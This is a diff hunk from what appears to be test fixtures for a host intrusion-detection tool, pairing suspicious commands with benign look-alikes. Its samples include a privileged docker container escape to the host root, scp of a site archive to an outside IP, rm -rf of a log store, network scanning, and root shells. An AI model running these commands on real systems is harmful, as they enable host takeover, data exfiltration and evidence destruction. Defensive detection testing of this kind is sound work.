@@ -75,7 +75,7 @@ commands("commands-never-used", ["/usr/bin/nmap -sS 10.0.0.0/16", "/usr/bin/nc -
 commands("container-privileged", ["/usr/bin/docker run --privileged -v /:/host alpine chroot /host"], ["/usr/bin/docker ps"])
 commands("container-entered", ["/usr/bin/docker exec -it api sh"], ["/usr/bin/docker logs api"])
 commands("archive-sent-out", ["/usr/bin/scp /tmp/site.tar.gz x@203.0.113.7:"], ["/usr/bin/scp /tmp/site.tar.gz web-02:/tmp"])
-commands("log-store-deleted", ["/usr/bin/rm -rf /var/lib/yushi/blocks"], ["/usr/bin/du -sh /var/lib/yushi"], host="log-01")
+commands("log-store-deleted", ["/usr/bin/rm -rf /var/lib/yushi/blocks"], ["/usr/bin/du -sh /var/lib/yushi"])
 # In a shell that was opened by day: no login tells of the hour.
 BEHAVIOURS["root-shell-at-night"] = (by_root("lin", "web-01", "/usr/bin/ls /root", clock="03:10"), by_root("lin", "web-01", "/usr/bin/ls /root", clock="10:40"), None)
 BEHAVIOURS["root-shell-by-sudo"] = (by_sudo("chen", "web-01", "/bin/bash"), by_sudo("lin", "web-01", "/bin/bash", clock="10:06"), None)
